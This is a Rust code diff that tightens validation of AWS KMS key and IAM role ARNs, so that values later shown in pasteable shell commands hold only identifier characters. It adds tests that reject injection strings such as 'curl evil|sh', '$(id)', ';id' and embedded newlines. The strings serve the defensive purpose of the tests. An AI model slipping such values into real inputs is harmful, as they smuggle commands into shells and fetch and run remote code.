@@ -9,7 +9,8 @@ use crate::keys::KeyParseError;
 /// Returns the region of the ARN of a key or an alias.
 ///
 /// sops takes anything but an empty text for a region. It becomes a part of a host name, to which a request signed
-/// with the user's credentials goes, so that here it must be a name.
+/// with the user's credentials goes, so that here it must be a name. The rest must be of the letters that AWS has in
+/// identifiers and aliases: people are told of the ARN in commands that they may paste to a shell.
 ///
 /// # Errors
 /// If it is no such ARN.
@@ -18,8 +19,21 @@ pub fn region_of(arn: &str) -> Result<&str, KeyParseError> {
     region.ok_or_else(|| KeyParseError::new(arn, EXPECTED))
 }
 
+/// Takes the ARN of a role, if it is of the letters that AWS has in names and paths of roles.
+///
+/// # Errors
+/// If there are others in it.
+pub fn check_role(role: &str) -> Result<(), KeyParseError> {
+    if ROLE.is_match(role) { Ok(()) } else { Err(KeyParseError::new(role, EXPECTED_ROLE)) }
+}
+
+static ROLE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"^arn:[A-Za-z0-9/_+=,.@:-]+$").expect("the pattern is valid"));
+
+const EXPECTED_ROLE: &str = "the ARN of a role of AWS, such as arn:aws:iam::111122223333:role/NAME";
+
 static ARN: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r"^arn:aws[a-zA-Z0-9_-]*:kms:([a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?):[0-9]+:(?:key|alias)/.+$")
+    Regex::new(r"^arn:aws[a-zA-Z0-9_-]*:kms:([a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?):[0-9]+:(?:key|alias)/[A-Za-z0-9:/_-]+$")
         .expect("the pattern is valid")
 });
 
@@ -62,10 +76,24 @@ mod tests {
             "arn:aws:kms:us-west-2::key/x",
             "arn:aws:kms:us-west-2:a:key/x",
             "arn:aws:iam::111122223333:role/x",
+            "arn:aws:kms:eu-west-1:1:key/x;curl evil|sh",
+            "arn:aws:kms:eu-west-1:1:alias/$(id)",
+            "arn:aws:kms:eu-west-1:1:alias/a b",
+            "arn:aws:kms:eu-west-1:1:key/x\n",
             "arn:gcp:kms:us-west-2:1:key/x",
             " arn:aws:kms:us-west-2:1:key/x",
         ] {
             region_of(arn).expect_err(arn);
+        }
+    }
+
+    #[test]
+    fn a_role_is_of_the_letters_of_roles() {
+        check_role("arn:aws:iam::111122223333:role/a/b_c+=,.@-d").expect("a role");
+        for role in
+            ["", "role", "arn:aws:iam::1:role/x;id", "arn:aws:iam::1:role/$(id)", "arn:aws:iam::1:role/x\n"]
+        {
+            assert_eq!(check_role(role).expect_err("no role").text, role);
         }
     }
 }
